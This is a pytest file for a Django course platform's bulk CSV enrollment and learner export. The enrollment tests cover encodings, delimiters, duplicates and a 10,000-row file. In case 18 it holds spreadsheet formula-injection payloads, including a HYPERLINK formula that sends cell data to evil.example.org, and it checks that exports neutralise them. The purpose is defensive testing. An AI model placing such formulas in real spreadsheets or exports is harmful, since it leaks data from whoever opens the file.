"""Every real-world file of shared/cases through bulk enrollment, both runs.

"existing": every valid address already has a learner account (created in
lower case) and unknown emails are skipped. "invite": no accounts exist and
unknown emails are invited. Running a file a second time enrolls nobody new.
The expectations are those of cases/README.md.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from django.utils import timezone

from karma.accounts.models import Invitation, Role, User
from karma.accounts.tests.factories import LearnerFactory
from karma.audit.models import AuditEvent, AuditKind
from karma.courses.tests.factories import PublishedCourseFactory
from karma.enrollments.models import (
    BulkJobStatus,
    Enrollment,
    RowOutcome,
    UnknownEmailPolicy,
)
from karma.enrollments.tests.bulk_runs import run_bulk_file
from karma.lib.spreadsheets import read_learner_file

CASES = Path(__file__).resolve().parents[2] / "lib" / "tests" / "cases"
EXISTING, INVITE = "existing", "invite"


def run_file(course, name, *, policy, actor=None):
    data = (CASES / name).read_bytes()
    return run_bulk_file(course, data, name, policy=policy, actor=actor)


def outcomes(job):
    return {row.line: row.outcome for row in job.rows.all()}


def create_accounts_for(name):
    learner_file = read_learner_file((CASES / name).read_bytes(), max_bytes=10**7)
    emails = {row.email for row in learner_file.rows if row.is_valid}
    # One insert: case-15 needs ten thousand accounts.
    User.objects.bulk_create(
        [
            User(
                email=email.lower(),
                first_name="Known",
                last_name="Person",
                activated_at=timezone.now(),
                search_text=f"known person {email.lower()}",
            )
            for email in emails
        ]
    )
    return emails


def run_case(name, mode):
    course = PublishedCourseFactory()
    if mode == EXISTING:
        create_accounts_for(name)
    policy = UnknownEmailPolicy.SKIP if mode == EXISTING else UnknownEmailPolicy.INVITE
    first = run_file(course, name, policy=policy)
    second = run_file(course, name, policy=policy)
    return course, first, second


def learner_names():
    learners = User.objects.filter(role=Role.LEARNER)
    return set(learners.values_list("first_name", "last_name"))


def enrolled_emails(course):
    return set(
        Enrollment.objects.filter(course=course).values_list(
            "learner__email", flat=True
        )
    )


def added(job):
    return job.counts[RowOutcome.ENROLLED] + job.counts[RowOutcome.INVITED]


def assert_second_run_changes_nothing(first, second):
    assert added(second) == 0
    for line, outcome in outcomes(first).items():
        if outcome in (RowOutcome.ENROLLED, RowOutcome.INVITED):
            assert outcomes(second)[line] == RowOutcome.ALREADY_ENROLLED


@pytest.fixture(params=[EXISTING, INVITE])
def mode(request):
    return request.param


@pytest.mark.django_db
class TestCaseFiles:
    def test_case_01_utf8_bom(self, mode):
        course, first, second = run_case("case-01-utf8-bom.csv", mode)

        assert first.status == BulkJobStatus.DONE
        assert enrolled_emails(course) == {"ana.silva@example.com"}
        assert first.notes == []
        if mode == INVITE:
            ana = User.objects.get(email="ana.silva@example.com")
            assert (ana.first_name, ana.last_name) == ("Ana", "Silva")
        assert_second_run_changes_nothing(first, second)

    def test_case_02_semicolons(self, mode):
        course, first, second = run_case("case-02-semicolon-delimiter.csv", mode)

        assert added(first) == 2
        assert len(enrolled_emails(course)) == 2
        for user in User.objects.all():
            assert ";" not in user.email + user.first_name + user.last_name
        if mode == INVITE:
            piet = User.objects.get(email="piet.devries@example.com")
            assert piet.last_name == "de Vries, Jr."
        assert_second_run_changes_nothing(first, second)

    def test_case_04_utf16_tab(self, mode):
        course, first, second = run_case("case-04-utf16le-tab.csv", mode)

        assert added(first) == 2
        if mode == INVITE:
            names = learner_names()
            assert names == {("Agnès", "Müller"), ("Kenji", "Satō")}
        assert_second_run_changes_nothing(first, second)

    def test_case_05_header_synonyms(self, mode):
        course, first, second = run_case("case-05-header-synonyms.csv", mode)

        assert enrolled_emails(course) == {
            "liam.okafor@example.com",
            "sofia.rossi@example.com",
        }
        if mode == INVITE:
            names = learner_names()
            assert names == {("Liam", "Okafor"), ("Sofia", "Rossi")}
        assert_second_run_changes_nothing(first, second)

    def test_case_07_duplicates(self, mode):
        course, first, second = run_case("case-07-duplicate-rows.csv", mode)

        assert Enrollment.objects.filter(course=course).count() == 2
        assert outcomes(first)[3] == RowOutcome.DUPLICATE
        assert outcomes(first)[4] == RowOutcome.DUPLICATE
        messages = {row.line: row.message for row in first.rows.all()}
        assert "line 2" in messages[3]
        assert "line 2" in messages[4]
        assert_second_run_changes_nothing(first, second)

    def test_case_08_blank_lines(self, mode):
        course, first, second = run_case("case-08-blank-lines.csv", mode)

        assert outcomes(first) == {
            3: RowOutcome.ENROLLED if mode == EXISTING else RowOutcome.INVITED,
            7: RowOutcome.ENROLLED if mode == EXISTING else RowOutcome.INVITED,
        }
        assert enrolled_emails(course) == {
            "ken.ito@example.com",
            "rosa.diaz@example.com",
        }
        assert_second_run_changes_nothing(first, second)

    def test_case_09_quoted_fields(self, mode):
        course, first, second = run_case("case-09-quoted-fields.csv", mode)

        assert added(first) == 3
        if mode == INVITE:
            names = learner_names()
            assert ("Seán", "O'Brien, Jr.") in names
            assert ("Ali Jon", "Valiev") in names
            assert ('Kate "KD"', "Doe") in names
        assert_second_run_changes_nothing(first, second)

    def test_case_11_mixed_line_endings(self, mode):
        course, first, second = run_case("case-11-mixed-line-endings.csv", mode)

        assert added(first) == 3
        assert "lena.fischer@example.com" in enrolled_emails(course)
        for user in User.objects.all():
            for value in (user.email, user.first_name, user.last_name):
                assert not value.endswith("\r")
        for row in first.rows.all():
            assert not row.email.endswith("\r")
        assert_second_run_changes_nothing(first, second)

    def test_case_13_extra_columns(self, mode):
        course, first, second = run_case("case-13-extra-columns.csv", mode)

        assert added(first) == 3
        ignored = [note for note in first.notes if note.startswith("Ignored columns")]
        assert len(ignored) == 1
        assert ignored[0].count("Notes") == 1
        assert_second_run_changes_nothing(first, second)

    def test_case_17_row_report(self, mode):
        course = PublishedCourseFactory()
        if mode == EXISTING:
            LearnerFactory(email="known.user@example.com")
            policy = UnknownEmailPolicy.SKIP
        else:
            policy = UnknownEmailPolicy.INVITE

        first = run_file(course, "case-17-row-report.csv", policy=policy)
        second = run_file(course, "case-17-row-report.csv", policy=policy)

        expected_line_2 = (
            RowOutcome.ENROLLED if mode == EXISTING else RowOutcome.INVITED
        )
        expected_line_3 = RowOutcome.UNKNOWN if mode == EXISTING else RowOutcome.INVITED
        assert outcomes(first) == {
            2: expected_line_2,
            3: expected_line_3,
            4: RowOutcome.INVALID,
            5: RowOutcome.DUPLICATE,
        }
        if mode == EXISTING:
            counts = first.counts
            assert (
                counts[RowOutcome.ENROLLED],
                counts[RowOutcome.UNKNOWN],
                counts[RowOutcome.INVALID],
                counts[RowOutcome.DUPLICATE],
            ) == (1, 1, 1, 1)
            assert not User.objects.filter(email="unknown.person@example.org").exists()
        assert "not-an-email" in first.rows.get(line=4).message
        assert_second_run_changes_nothing(first, second)

    def test_case_18_names_stored_as_written(self, mode):
        course, first, second = run_case("case-18-formula-injection.csv", mode)

        assert added(first) == 3
        if mode == INVITE:
            names = {u.email: (u.first_name, u.last_name) for u in User.objects.all()}
            assert names["mallory@example.org"] == (
                '=HYPERLINK("http://evil.example.org/?d="&A1,"open")',
                "Smith",
            )
            assert names["eve@example.org"] == ("+SUM(1+1)", "@cmd")
            assert names["dan@example.org"] == ("-2+3", "\t=1+1")
        assert_second_run_changes_nothing(first, second)


@pytest.mark.django_db
@pytest.mark.parametrize("mode", [EXISTING, INVITE])
def test_case_15_large_file(mode):
    course, first, second = run_case("case-15-large-file.csv", mode)

    expected = RowOutcome.ENROLLED if mode == EXISTING else RowOutcome.INVITED
    assert first.counts[expected] == 9_999
    assert first.counts[RowOutcome.INVALID] == 1
    bad = first.rows.get(outcome=RowOutcome.INVALID)
    assert bad.line == 7777
    assert "learner07776.example.com" in bad.message
    assert Enrollment.objects.filter(course=course).count() == 9_999
    if mode == INVITE:
        assert Invitation.objects.count() == 9_999
    assert added(second) == 0
    assert second.counts[RowOutcome.ALREADY_ENROLLED] == 9_999


@pytest.mark.django_db
def test_case_18_learner_export_neutralises_formulas(client, admin):
    import csv
    import io

    from django.urls import reverse
    from openpyxl import load_workbook

    course = PublishedCourseFactory(owner=admin)
    run_file(course, "case-18-formula-injection.csv", policy=UnknownEmailPolicy.INVITE)
    client.force_login(admin)

    csv_response = client.get(
        reverse("enrollments:learners_export_csv", args=[course.public_id])
    )
    xlsx_response = client.get(
        reverse("enrollments:learners_export_xlsx", args=[course.public_id])
    )

    raw = b"".join(csv_response.streaming_content)
    assert raw.startswith(b"\xef\xbb\xbf") and b"\r\n" in raw
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    sheet = load_workbook(io.BytesIO(xlsx_response.content)).active
    cells = [str(c) for row in rows[1:] for c in row] + [
        str(c.value) for row in sheet.iter_rows(min_row=2) for c in row if c.value
    ]
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert '\'=HYPERLINK("http://evil.example.org/?d="&A1,"open")' in cells
    assert "'+SUM(1+1)" in cells and "'@cmd" in cells and "'-2+3" in cells
    exports = AuditEvent.objects.filter(kind=AuditKind.EXPORT_DOWNLOADED)
    enrolled = Enrollment.objects.filter(course=course).count()
    assert [event.details["rows"] for event in exports] == [enrolled, enrolled]


@pytest.mark.django_db
def test_learner_export_is_refused_to_learners(learner_client):
    from django.urls import reverse

    course = PublishedCourseFactory()

    response = learner_client.get(
        reverse("enrollments:learners_export_csv", args=[course.public_id])
    )

    assert response.status_code in (403, 404)
